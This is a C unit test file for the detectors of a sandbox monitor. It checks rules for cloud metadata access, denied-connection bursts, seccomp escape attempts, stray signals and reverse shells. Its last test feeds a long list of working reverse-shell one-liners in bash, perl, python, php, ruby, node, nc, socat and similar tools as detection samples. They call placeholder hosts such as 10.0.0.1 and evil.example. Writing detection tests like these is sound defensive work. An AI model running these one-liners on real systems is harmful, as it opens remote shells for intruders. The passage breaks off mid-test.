/*
 * The detectors (detectors/detect.h) as pure functions: each rule fires on its pattern and not on
 * the honest neighbour of it, bursts are reported once per window, and the same events in the
 * same order give the same verdicts.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "detectors/detect.h"
#include "fixtures.h"
#include "policy/policy.h"

static const char policy_text[] = "{\"version\": 1, \"name\": \"t\", \"sandbox\": {},"
				  " \"egress\": {\"allow\": [{\"name\": \"reg\", \"host\": "
				  "\"registry.test\", \"ports\": [443]}]},"
				  " \"tools\": {"
				  "  \"install_deps\": {\"egress\": [\"reg\"], \"commands\": "
				  "[{\"program\": \"/usr/bin/pip\", \"operands\": \"any\"}]},"
				  "  \"run_tests\": {\"commands\": [{\"program\": "
				  "\"/usr/bin/python3\", \"operands\": \"any\"}]}}}";

static const char behavior_policy[] =
	"{\"version\": 1, \"name\": \"b\", \"sandbox\": {},"
	" \"detectors\": {\"actions\": {\"high\": \"kill\"}%s},"
	" \"tools\": {"
	"  \"run_tests\": {\"children\": [\"/usr/bin/python3*\"], \"commands\": [{\"program\": "
	"\"/usr/bin/python3\", \"operands\": \"any\"}]},"
	"  \"shell_readonly\": {\"commands\": [{\"program\": \"/usr/bin/grep\", \"operands\": "
	"\"any\"}]},"
	"  \"grep\": {\"single_process\": true, \"commands\": [{\"program\": \"/usr/bin/grep\", "
	"\"operands\": \"any\"}]}}}";

static struct detect_state *behavior_state(const char *extra)
{
	struct detect_config c;
	struct detect_state *st = NULL;
	struct policy *p;
	char text[2048];

	snprintf(text, sizeof(text), behavior_policy, extra);
	detect_config_defaults(&c);
	p = fixture_policy("b.json", text);
	assert_int_equal(detect_state_new(p, &c, &st), 0);
	policy_free(p);
	return st;
}

static struct detect_state *new_state(int with_policy)
{
	struct detect_config c;
	struct detect_state *st = NULL;
	struct policy *p = with_policy ? fixture_policy("t.json", policy_text) : NULL;

	detect_config_defaults(&c);
	assert_int_equal(detect_state_new(p, &c, &st), 0);
	policy_free(p);
	return st;
}

/* Feeds one event of source src; returns the verdict count. */
static size_t feed_from(struct detect_state *st, enum event_source src, int64_t id, int64_t ts,
			const char *tool, const char *kind, const char *fields,
			struct detect_verdict *v)
{
	struct event ev;
	size_t n;

	event_init(&ev);
	ev.id = id;
	ev.ts = ts;
	ev.step = 3;
	strcpy(ev.sandbox, "s");
	strcpy(ev.tool, tool);
	strcpy(ev.kind, kind);
	ev.source = src;
	ev.fields = (char *)fields;
	ev.fields_len = strlen(fields);
	n = detect_event(st, &ev, v, 4);
	ev.fields = NULL;
	return n;
}

/* Feeds one event of the process tracer; returns the verdict count. */
static size_t feed(struct detect_state *st, int64_t id, int64_t ts, const char *tool,
		   const char *kind, const char *fields, struct detect_verdict *v)
{
	return feed_from(st, EVENT_SOURCE_EBPF, id, ts, tool, kind, fields, v);
}

#define SEC 1000000000LL
static const char refused[] =
	"{\"family\":\"inet\",\"type\":1,\"protocol\":6,\"cgroup_id\":5,\"dst\":\"203.0.113.%d\","
	"\"port\":443,\"egress_hook\":\"refused\",\"errno\":1}";

static void test_metadata_is_critical_anywhere(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	assert_int_equal(
		feed(st, 1, SEC, "fetch", "net.connect",
		     "{\"dst\":\"169.254.169.254\",\"port\":80,\"egress_hook\":\"passed\"}", v),
		1);
	assert_string_equal(v[0].rule, "net.metadata");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(v[0].event_ids[0], 1);
	assert_int_equal(feed(st, 2, SEC, "fetch", "net.denied",
			      "{\"packets\":3,\"src\":\"10.199.0.2\",\"dst\":\"fd00:ec2::254\"}",
			      v),
			 1);
	assert_int_equal(feed(st, 3, SEC, "fetch", "net.connect",
			      "{\"dst\":\"198.51.100.7\",\"port\":443,\"egress_hook\":\"passed\"}",
			      v),
			 0);
	detect_state_free(st);
}

static void test_burst_fires_once_per_window(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	char f[300];
	size_t total = 0;

	snprintf(f, sizeof(f), refused, 66);
	for (int i = 0; i < 4; i++)
		assert_int_equal(feed(st, i + 1, SEC + i, "t", "net.connect", f, v), 0);
	assert_int_equal(feed(st, 5, SEC + 4, "t", "net.connect", f, v), 1);
	assert_string_equal(v[0].rule, "net.deny-burst");
	assert_int_equal(v[0].n_ids, 5);
	assert_int_equal(v[0].event_ids[0], 1);
	assert_int_equal(v[0].event_ids[4], 5);
	for (int i = 0; i < 20; i++) /* the same window: quiet */
		total += feed(st, 6 + i, SEC + 5 + i, "t", "net.connect", f, v);
	assert_int_equal(total, 0);
	/* Spread out (one per 3 s), never five within 10 s: no burst. */
	detect_state_free(st);
	st = new_state(0);
	for (int i = 0; i < 10; i++)
		total += feed(st, i + 1, SEC + i * 3 * SEC, "t", "net.connect", f, v);
	assert_int_equal(total, 0);
	detect_state_free(st);
}

static void test_scan_counts_distinct_destinations(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	char f[300];

	for (int i = 0; i < 2; i++) {
		snprintf(f, sizeof(f), refused, i);
		assert_int_equal(feed(st, i + 1, SEC + i, "t", "net.connect", f, v), 0);
	}
	snprintf(f, sizeof(f), refused, 2);
	assert_int_equal(feed(st, 3, SEC + 2, "t", "net.connect", f, v), 1);
	assert_string_equal(v[0].rule, "net.deny-scan");
	detect_state_free(st);
}

/*
 * A tool with no egress is flagged for what reaches beyond the sandbox, or what the egress hook
 * refused; not for a socket alone, nor for talking to its own loopback (pip's IPv6 probe, a
 * test's local server). Without the policy, nothing.
 */
static void test_network_out_of_scope_is_what_leaves_and_needs_the_policy(void **state)
{
	struct detect_state *st = new_state(1), *none = new_state(0);
	struct detect_verdict v[4];
	const char *inet = "{\"family\":\"inet\",\"type\":1,\"protocol\":0,\"cgroup_id\":5}";
	const char *out = "{\"family\":\"inet\",\"dst\":\"192.0.2.1\",\"port\":80,"
			  "\"egress_hook\":\"passed\"}";
	const char *lo = "{\"family\":\"inet\",\"dst\":\"127.0.0.1\",\"port\":8000,"
			 "\"egress_hook\":\"passed\"}";
	const char *lo6 = "{\"family\":\"inet6\",\"dst\":\"::1\",\"port\":8000,"
			  "\"egress_hook\":\"passed\"}";
	const char *lo_refused = "{\"family\":\"inet\",\"dst\":\"127.0.0.1\",\"port\":1,"
				 "\"egress_hook\":\"refused\",\"errno\":1}";

	assert_int_equal(feed(st, 1, SEC, "run_tests", "net.socket", inet, v), 0);
	assert_int_equal(feed(st, 2, SEC, "run_tests", "net.connect", lo, v), 0);
	assert_int_equal(feed(st, 3, SEC, "run_tests", "net.connect", lo6, v), 0);
	assert_int_equal(feed(st, 4, SEC, "run_tests", "net.sendmsg", lo, v), 0);
	assert_int_equal(feed(st, 5, SEC, "run_tests", "net.connect", out, v), 1);
	assert_string_equal(v[0].rule, "tool.network-out-of-scope");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(feed(st, 6, SEC, "run_tests", "net.connect", lo_refused, v), 1);
	assert_string_equal(v[0].rule, "tool.network-out-of-scope");
	assert_int_equal(feed(st, 7, SEC, "install_deps", "net.connect", out, v), 0);
	assert_int_equal(feed(none, 8, SEC, "run_tests", "net.connect", out, v), 0);
	detect_state_free(st);
	detect_state_free(none);
}

static void test_escape_class_seccomp_and_resources(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	struct event ev;

	assert_int_equal(feed(st, 1, SEC, "t", "seccomp.denied",
			      "{\"syscall\":101,\"name\":\"ptrace\",\"action\":\"errno\"}", v),
			 1);
	assert_string_equal(v[0].rule, "escape.seccomp");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(feed(st, 2, SEC, "t", "seccomp.denied",
			      "{\"syscall\":39,\"name\":\"getpid\",\"action\":\"errno\"}", v),
			 0);
	/* A refused kill is one aimed at init (critical), a logged one kill(-1) (high); a logged
	 * prlimit64 is a record, and a refused kill with no step (init's own) is not judged. */
	assert_int_equal(feed(st, 10, SEC, "t", "seccomp.denied",
			      "{\"syscall\":62,\"name\":\"kill\",\"action\":\"errno\"}", v),
			 1);
	assert_string_equal(v[0].rule, "signal.beyond-step");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(feed(st, 11, SEC, "t", "seccomp.logged",
			      "{\"syscall\":62,\"name\":\"kill\",\"action\":\"log\"}", v),
			 1);
	assert_string_equal(v[0].rule, "signal.beyond-step");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(feed(st, 12, SEC, "t", "seccomp.logged",
			      "{\"syscall\":302,\"name\":\"prlimit64\",\"action\":\"log\"}", v),
			 0);
	assert_int_equal(feed(st, 13, SEC, "t", "seccomp.logged",
			      "{\"syscall\":200,\"name\":\"tkill\",\"action\":\"log\"}", v),
			 0);
	assert_int_equal(feed(st, 14, SEC, "t", "seccomp.denied",
			      "{\"syscall\":161,\"name\":\"chroot\",\"action\":\"errno\"}", v),
			 1);
	assert_string_equal(v[0].rule, "escape.seccomp");
	assert_int_equal(feed(st, 15, SEC, "t", "seccomp.denied",
			      "{\"syscall\":133,\"name\":\"mknod\",\"action\":\"errno\"}", v),
			 1);
	assert_string_equal(v[0].rule, "escape.seccomp");
	/* Refused only for some arguments, so each refusal an escape: a namespace clone, a
	 * refused socket family; clone3 is refused whatever its flags and says nothing. */
	for (int i = 0; i < 3; i++) {
		static const char *const calls[] = {
			"{\"syscall\":56,\"name\":\"clone\",\"action\":\"errno\"}",
			"{\"syscall\":41,\"name\":\"socket\",\"action\":\"errno\"}",
			"{\"syscall\":53,\"name\":\"socketpair\",\"action\":\"errno\"}",
		};

		assert_int_equal(feed(st, 16 + i, SEC, "t", "seccomp.denied", calls[i], v), 1);
		assert_string_equal(v[0].rule, "escape.seccomp");
		assert_int_equal(v[0].severity, DETECT_CRITICAL);
	}
	assert_int_equal(feed(st, 19, SEC, "t", "seccomp.denied",
			      "{\"syscall\":435,\"name\":\"clone3\",\"action\":\"errno\"}", v),
			 0);
	/* cgroup.stats of the sandbox's own cgroup (no step): a rise fires, a repeat does not. */
	event_init(&ev);
	ev.id = 3;
	strcpy(ev.kind, "cgroup.stats");
	ev.fields =
		(char *)"{\"cgroup\":\"firebreak/s\",\"memory_oom_kill\":1,\"pids_max_hits\":0}";
	assert_int_equal(detect_event(st, &ev, v, 4), 1);
	assert_string_equal(v[0].rule, "resource.oom-kill");
	assert_int_equal(detect_event(st, &ev, v, 4), 0);
	/* Near the memory cap: once at 90%, again only after falling below 80%. */
	ev.fields = (char *)"{\"memory_current\":95,\"memory_max\":100,\"memory_oom_kill\":1}";
	assert_int_equal(detect_event(st, &ev, v, 4), 1);
	assert_string_equal(v[0].rule, "resource.memory-near-cap");
	assert_int_equal(detect_event(st, &ev, v, 4), 0);
	ev.fields = (char *)"{\"memory_current\":85,\"memory_max\":100,\"memory_oom_kill\":1}";
	assert_int_equal(detect_event(st, &ev, v, 4), 0);
	ev.fields = (char *)"{\"memory_current\":70,\"memory_max\":100,\"memory_oom_kill\":1}";
	assert_int_equal(detect_event(st, &ev, v, 4), 0);
	ev.fields = (char *)"{\"memory_current\":91,\"memory_max\":100,\"memory_oom_kill\":1}";
	assert_int_equal(detect_event(st, &ev, v, 4), 1);
	ev.fields = (char *)"{\"memory_current\":99,\"memory_oom_kill\":1}"; /* no cap: no rule */
	assert_int_equal(detect_event(st, &ev, v, 4), 0);
	/* The workspace, likewise. */
	ev.fields = (char *)"{\"workspace_used\":92,\"workspace_size\":100,\"memory_oom_kill\":1}";
	assert_int_equal(detect_event(st, &ev, v, 4), 1);
	assert_string_equal(v[0].rule, "resource.workspace-full");
	assert_int_equal(detect_event(st, &ev, v, 4), 0);
	ev.fields = NULL;
	detect_state_free(st);
}

/* Replay's promise: the same stream gives the same verdicts, field by field. */
static void test_same_events_same_verdicts(void **state)
{
	struct detect_verdict a[64], b[64];
	size_t na = 0, nb = 0;

	for (int round = 0; round < 2; round++) {
		struct detect_state *st = new_state(1);
		struct detect_verdict *out = round ? b : a;
		size_t *n = round ? &nb : &na;
		char f[300];

		for (int i = 0; i < 40; i++) {
			snprintf(f, sizeof(f), refused, i % 4);
			*n += feed(st, i + 1, SEC + (int64_t)i * SEC / 3, "run_tests",
				   "net.connect", f, out + *n);
		}
		detect_state_free(st);
	}
	assert_true(na > 2);
	assert_int_equal(na, nb);
	for (size_t i = 0; i < na; i++) {
		assert_string_equal(a[i].rule, b[i].rule);
		assert_int_equal(a[i].ts, b[i].ts);
		assert_int_equal(a[i].n_ids, b[i].n_ids);
		assert_memory_equal(a[i].event_ids, b[i].event_ids, sizeof(a[i].event_ids));
		assert_string_equal(a[i].reason, b[i].reason);
	}
}

static void test_behavior_rules_judge_by_the_tool_scope(void **state)
{
	struct detect_state *st = behavior_state("");
	struct detect_verdict v[4];

	/* run_tests declares its children: python is one, git is not (the lesson). */
	assert_int_equal(feed(st, 1, SEC, "run_tests", "proc.exec",
			      "{\"path\":\"/usr/bin/python3.11\",\"argv\":[\"python3\"]}", v),
			 0);
	assert_int_equal(
		feed(st, 2, SEC, "run_tests", "proc.exec", "{\"path\":\"/usr/bin/git\"}", v), 1);
	assert_string_equal(v[0].rule, "behavior.exec-out-of-scope");
	/* shell_readonly declares none: only interpreters are findings. */
	assert_int_equal(
		feed(st, 3, SEC, "shell_readonly", "proc.exec", "{\"path\":\"/usr/bin/cat\"}", v),
		0);
	assert_int_equal(feed(st, 4, SEC, "shell_readonly", "proc.exec",
			      "{\"path\":\"/usr/bin/python3\"}", v),
			 1);
	assert_string_equal(v[0].rule, "behavior.interpreter");
	assert_int_equal(
		feed(st, 5, SEC, "shell_readonly", "proc.exec", "{\"path\":\"/bin/dash\"}", v), 1);
	/* A single-process tool forking; another tool's fork is nobody's business. */
	assert_int_equal(feed(st, 6, SEC, "grep", "proc.fork", "{\"cgroup_id\":1}", v), 1);
	assert_string_equal(v[0].rule, "behavior.fork");
	assert_int_equal(feed(st, 7, SEC, "run_tests", "proc.fork", "{\"cgroup_id\":1}", v), 0);
	/* The enforcer had to kill what a step left behind. */
	assert_int_equal(feed(st, 8, SEC, "run_tests", "step.end",
			      "{\"exit_code\":0,\"leftover_killed\":true}", v),
			 1);
	assert_string_equal(v[0].rule, "behavior.step-outlived");
	assert_int_equal(feed(st, 9, SEC, "run_tests", "step.end",
			      "{\"exit_code\":0,\"leftover_killed\":false}", v),
			 0);
	/* The policy's actions: high kills here. */
	assert_int_equal(detect_action(st, DETECT_HIGH), POLICY_ACTION_KILL);
	assert_int_equal(detect_action(st, DETECT_MEDIUM), POLICY_ACTION_ALERT);
	detect_state_free(st);
}

static void test_lost_events_do_what_on_lost_events_says(void **state)
{
	struct detect_state *def = new_state(0), *pol = new_state(1);
	struct detect_state *alert = behavior_state(", \"on_lost_events\": \"alert\"");
	struct detect_state *kill = behavior_state(", \"on_lost_events\": \"kill\"");
	const char *loss = "{\"stage\":\"kernel ring buffer\",\"connect\":3}";
	struct detect_verdict v[4];

	/* Fail closed by default, with a policy or without; the severity table is not asked. */
	assert_int_equal(feed(def, 1, SEC, "", "monitor.loss", loss, v), 1);
	assert_string_equal(v[0].rule, "monitor.blind");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(detect_verdict_action(def, &v[0]), POLICY_ACTION_FREEZE);
	assert_non_null(strstr(v[0].reason, "kernel ring buffer"));
	assert_int_equal(feed(pol, 1, SEC, "", "monitor.loss", loss, v), 1);
	assert_int_equal(detect_verdict_action(pol, &v[0]), POLICY_ACTION_FREEZE);
	assert_int_equal(feed(alert, 1, SEC, "", "monitor.loss", loss, v), 1);
	assert_int_equal(v[0].severity, DETECT_MEDIUM);
	assert_int_equal(detect_verdict_action(alert, &v[0]), POLICY_ACTION_ALERT);
	assert_int_equal(feed(kill, 1, SEC, "", "monitor.loss", loss, v), 1);
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(detect_verdict_action(kill, &v[0]), POLICY_ACTION_KILL);
	/* Any other verdict still goes by its severity. */
	assert_int_equal(feed(alert, 2, SEC, "t", "seccomp.denied",
			      "{\"syscall\":101,\"name\":\"ptrace\",\"action\":\"errno\"}", v),
			 1);
	assert_int_equal(detect_verdict_action(alert, &v[0]), POLICY_ACTION_KILL);
	detect_state_free(def);
	detect_state_free(pol);
	detect_state_free(alert);
	detect_state_free(kill);
}

static void test_rules_the_policy_switches_off_stay_quiet(void **state)
{
	struct detect_state *st = behavior_state(", \"off\": [\"behavior.interpreter\"]");
	struct detect_verdict v[4];

	assert_int_equal(feed(st, 1, SEC, "shell_readonly", "proc.exec",
			      "{\"path\":\"/usr/bin/python3\"}", v),
			 0);
	assert_int_equal(feed(st, 2, SEC, "grep", "proc.fork", "{\"cgroup_id\":1}", v), 1);
	detect_state_free(st);
}

/* Feeds one event of process pid (parent ppid, comm) on step; returns the verdict count. */
static size_t feed_as(struct detect_state *st, int64_t id, int64_t ts, int64_t step, int pid,
		      int ppid, const char *comm, const char *tool, const char *kind,
		      const char *fields, struct detect_verdict *v)
{
	struct event ev;
	size_t n;

	event_init(&ev);
	ev.id = id;
	ev.ts = ts;
	ev.step = step;
	ev.pid = pid;
	ev.ppid = ppid;
	strcpy(ev.comm, comm);
	strcpy(ev.sandbox, "s");
	strcpy(ev.tool, tool);
	strcpy(ev.kind, kind);
	ev.source = EVENT_SOURCE_EBPF;
	ev.fields = (char *)fields;
	ev.fields_len = strlen(fields);
	n = detect_event(st, &ev, v, 4);
	ev.fields = NULL;
	return n;
}

/* signal.beyond-step: other steps and the sandbox high, outside critical; the own step and the
 * sandbox's init (no step) are not judged. */
#define SIGNAL_SENT                                                                                \
	"{\"signal\":15,\"signal_name\":\"SIGTERM\",\"target_pid\":9,\"target_comm\":\"sleep\","   \
	"\"where\":\"%s\",\"result\":\"delivered\"}"
static void test_signal_beyond_step(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	char buf[256];

	snprintf(buf, sizeof(buf), SIGNAL_SENT, "same-step");
	assert_int_equal(feed_as(st, 1, SEC, 3, 5, 1, "bash", "t", "signal.sent", buf, v), 0);
	snprintf(buf, sizeof(buf), SIGNAL_SENT, "other-step");
	assert_int_equal(feed_as(st, 2, SEC, 3, 5, 1, "bash", "t", "signal.sent", buf, v), 1);
	assert_string_equal(v[0].rule, "signal.beyond-step");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(
		feed_as(st, 3, SEC, EVENT_STEP_NONE, 5, 1, "init", "", "signal.sent", buf, v), 0);
	snprintf(buf, sizeof(buf), SIGNAL_SENT, "sandbox");
	assert_int_equal(feed_as(st, 4, SEC, 3, 5, 1, "bash", "t", "signal.sent", buf, v), 1);
	assert_int_equal(v[0].severity, DETECT_HIGH);
	snprintf(buf, sizeof(buf), SIGNAL_SENT, "outside");
	assert_int_equal(feed_as(st, 5, SEC, 3, 5, 1, "bash", "t", "signal.sent", buf, v), 1);
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	detect_state_free(st);
}

/* net.unexpected-listener: an accept from beyond loopback; a listen on 0.0.0.0 is no verdict. */
static void test_unexpected_listener(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	assert_int_equal(feed(st, 1, SEC, "t", "net.listen",
			      "{\"family\":\"inet\",\"address\":\"0.0.0.0\",\"port\":8000}", v),
			 0);
	assert_int_equal(feed(st, 2, SEC, "t", "net.accept",
			      "{\"address\":\"127.0.0.1\",\"port\":8000,\"peer_address\":"
			      "\"127.0.0.1\",\"peer_port\":4000}",
			      v),
			 0);
	assert_int_equal(feed(st, 3, SEC, "t", "net.accept",
			      "{\"address\":\"::1\",\"port\":8000,\"peer_address\":\"::1\"}", v),
			 0);
	assert_int_equal(feed(st, 4, SEC, "t", "net.accept",
			      "{\"address\":\"10.199.0.2\",\"port\":8000,\"peer_address\":"
			      "\"203.0.113.5\",\"peer_port\":4000}",
			      v),
			 1);
	assert_string_equal(v[0].rule, "net.unexpected-listener");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	detect_state_free(st);
}

/* net.reverse-shell: a shell or interpreter on an inet socket; a shell by the process (or its
 * child) whose connect beyond loopback was refused, within 10 s. */
static void test_reverse_shell(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];
	const char *out = "{\"family\":\"inet\",\"dst\":\"203.0.113.9\",\"port\":4444,"
			  "\"egress_hook\":\"refused\",\"errno\":1}";
	const char *lo = "{\"family\":\"inet\",\"dst\":\"127.0.0.1\",\"port\":4444,"
			 "\"egress_hook\":\"refused\",\"errno\":1}";

	assert_int_equal(feed_as(st, 1, SEC, 3, 20, 10, "bash", "t", "proc.exec",
				 "{\"path\":\"/bin/bash\",\"stdio_socket\":\"stdin,stdout\"}", v),
			 1);
	assert_string_equal(v[0].rule, "net.reverse-shell");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(feed_as(st, 2, SEC, 3, 21, 10, "python3", "t", "proc.exec",
				 "{\"path\":\"/usr/bin/python3.11\",\"stdio_socket\":\"stdin\"}",
				 v),
			 1);
	assert_int_equal(feed_as(st, 3, SEC, 3, 22, 10, "nc", "t", "proc.exec",
				 "{\"path\":\"/usr/bin/nc\",\"stdio_socket\":\"stdin\"}", v),
			 0);
	assert_int_equal(feed_as(st, 4, SEC, 3, 23, 10, "bash", "t", "proc.exec",
				 "{\"path\":\"/bin/bash\"}", v),
			 0);
	/* A shell after a refused connect: its own pid (a re-exec) or a child of it. */
	assert_int_equal(feed_as(st, 5, 2 * SEC, 3, 50, 10, "python3", "t", "net.connect", out, v),
			 0);
	assert_int_equal(feed_as(st, 6, 3 * SEC, 3, 51, 50, "sh", "t", "proc.exec",
				 "{\"path\":\"/bin/sh\"}", v),
			 1);
	assert_string_equal(v[0].rule, "net.reverse-shell");
	assert_int_equal(v[0].n_ids, 2);
	assert_int_equal(v[0].event_ids[0], 5);
	/* Once per refusal; too late; a refused loopback connect; an unrelated process. */
	assert_int_equal(feed_as(st, 7, 3 * SEC, 3, 52, 50, "sh", "t", "proc.exec",
				 "{\"path\":\"/bin/sh\"}", v),
			 0);
	assert_int_equal(feed_as(st, 8, 4 * SEC, 3, 60, 10, "python3", "t", "net.connect", out, v),
			 0);
	assert_int_equal(feed_as(st, 9, 20 * SEC, 3, 60, 10, "sh", "t", "proc.exec",
				 "{\"path\":\"/bin/sh\"}", v),
			 0);
	assert_int_equal(feed_as(st, 10, 21 * SEC, 3, 70, 10, "python3", "t", "net.connect", lo, v),
			 0);
	assert_int_equal(feed_as(st, 11, 21 * SEC, 3, 70, 10, "sh", "t", "proc.exec",
				 "{\"path\":\"/bin/sh\"}", v),
			 0);
	assert_int_equal(
		feed_as(st, 12, 22 * SEC, 3, 80, 10, "python3", "t", "net.connect", out, v), 0);
	assert_int_equal(feed_as(st, 13, 22 * SEC, 3, 81, 10, "sh", "t", "proc.exec",
				 "{\"path\":\"/bin/sh\"}", v),
			 0);
	detect_state_free(st);
}

/*
 * Feeds a proc.exec of path with the NULL-terminated arguments (argv[0] first) and its stdin
 * and stdout pipes (0: none) on step; returns the verdict count, the first in v.
 */
static size_t exec_argv(struct detect_state *st, int64_t id, int64_t ts, int64_t step, int64_t in,
			int64_t out, const char *path, struct detect_verdict *v, ...)
{
	json_t *f = json_pack("{s:s, s:[]}", "path", path, "argv");
	const char *comm = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
	const char *a;
	va_list ap;
	char *text;
	size_t n;

	va_start(ap, v);
	while ((a = va_arg(ap, const char *)))
		json_array_append_new(json_object_get(f, "argv"), json_string(a));
	va_end(ap);
	if (in)
		json_object_set_new(f, "stdin_pipe", json_integer(in));
	if (out)
		json_object_set_new(f, "stdout_pipe", json_integer(out));
	text = json_dumps(f, JSON_COMPACT);
	n = feed_as(st, id, ts, step, (int)id + 100, 1, comm, "t", "proc.exec", text, v);
	free(text);
	json_decref(f);
	return n;
}

/* Whether an exec with these arguments is net.reverse-shell (critical), and only that. */
#define RSH(st, path, ...)                                                                         \
	(exec_argv(st, 1, SEC, 3, 0, 0, path, v, __VA_ARGS__, NULL) == 1 &&                        \
	 strcmp(v[0].rule, "net.reverse-shell") == 0 && v[0].severity == DETECT_CRITICAL)
#define QUIET(st, path, ...) (exec_argv(st, 1, SEC, 3, 0, 0, path, v, __VA_ARGS__, NULL) == 0)

/* net.reverse-shell from the arguments alone: a shell, an interpreter or a network tool told to
 * join a socket to a shell. Honest neighbours (a socket import, a loopback port check, a
 * database's connect, curl, pip, git, nc -z) stay quiet. */
static void test_reverse_shell_signatures(void **state)
{
	struct detect_state *st = new_state(0);
	struct detect_verdict v[4];

	assert_true(
		RSH(st, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"));
	assert_true(RSH(st, "/bin/sh", "sh", "-lc", "exec 5<>/dev/udp/evil.example/53; cat <&5"));
	assert_true(RSH(st, "/usr/bin/perl", "perl", "-e",
			"use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,"
			"getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){"
			"open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"));
	assert_true(RSH(st, "/usr/bin/python3.11", "python3", "-c",
			"import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
			"[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"));
	assert_true(RSH(st, "/usr/bin/python3", "python3", "-c",
			"import socket,subprocess;s=socket.create_connection(('10.0.0.1',9));"
			"subprocess.call(['/bin/sh','-i'],stdin=s,stdout=s)"));
	assert_true(
		RSH(st, "/usr/bin/python3", "python3", "-c", "import pty; pty.spawn('/bin/bash')"));
	assert_true(RSH(st, "/usr/bin/php", "php", "-r",
			"$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");"));
	assert_true(RSH(st, "/usr/bin/ruby", "ruby", "-rsocket", "-e",
			"f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d "
			">&%d 2>&%d\",f,f,f)"));
	assert_true(RSH(st, "/usr/bin/node", "node", "-e",
			"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',"
			"[]);var c=new net.Socket();c.connect(4242,'10.0.0.1',function(){"
			"c.pipe(sh.stdin);sh.stdout.pipe(c);});"));
	assert_true(RSH(st, "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"));
	assert_true(RSH(st, "/usr/bin/nc.traditional", "nc", "-nv", "10.0.0.1", "4444", "-e",
			"/bin/bash"));
	assert_true(RSH(st, "/usr/bin/ncat", "ncat", "10.0.0.1", "4444", "--sh-exec", "sh"));
	assert_true(RSH(st, "/bin/busybox", "busybox", "nc", "10.0.0.1", "4444", "-e", "sh"));
	assert_true(RSH(st, "/usr/bin/socat", "socat", "exec:'bash -li',pty,stderr,setsid",
			"tcp:10.0.0.1:4444"));
	assert_true(
		RSH(st, "/bin/sh", "sh", "-c",
		    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"));
	assert_true(RSH(st, "/bin/sh", "sh", "-c", "telnet h 4444 | /bin/bash | telnet h 4445"));
	assert_true(RSH(st, "/bin/bash", "bash", "-c",
			"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet "
			"-connect 10.0.0.1:443 > /tmp/s"));
	assert_true(RSH(st, "/bin/sh", "sh", "-c", "cd /tmp && nc -e /bin/sh 10.0.0.1 4444"));

	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c", "import socket"));
	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c",
			  "import socket; s=socket.socket(); s.connect(('127.0.0.1', 8000)); "
			  "print(s.recv(9))"));
	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c",
			  "import sqlite3, subprocess; sqlite3.connect('x.db'); "
			  "subprocess.run(['pytest'])"));
	assert_true(QUIET(st, "/usr/bin/python3", "python3", "-c",
			  "import socket, subprocess; socket.create_connection(('127.0.0.1', 5432))"
			  ".close(); subprocess.run(['psql', '-c', 'select 1'])"));
	assert_true(QUIET(st, "/usr/bin/python3", "python3", "tool.py", "-c",
			  "socket connect dup2 /bin/sh pty.spawn"));
	assert_true(QUIET(st, "/usr/bin/perl", "perl", "-MIO::Socket::INET", "-e", "print 1"));
	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c",
			  "until bash -c '</dev/tcp/127.0.0.1/5432'; do sleep 1; done"));
	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c", "echo > /dev/tcp/localhost/8080"));
	assert_true(
		QUIET(st, "/usr/bin/bash", "bash", "-c", "echo hi | nc localhost 80 2>&1 | sort"));
	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c", "nc -z localhost 8080 && sh run.sh"));
	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-c", "grep -e def x.py | sort | uniq -c"));
	assert_true(QUIET(st, "/usr/bin/bash", "bash", "-e", "build.sh", "-c", "nc -e"));
	assert_true(QUIET(st, "/usr/bin/nc", "nc", "-z", "-w", "1", "localhost", "8080"));
	assert_true(QUIET(st, "/usr/bin/nc", "nc", "-lvnp", "4444"));
	assert_true(QUIET(st, "/usr/bin/socat", "socat", "TCP-LISTEN:8080,fork", "STDOUT"));
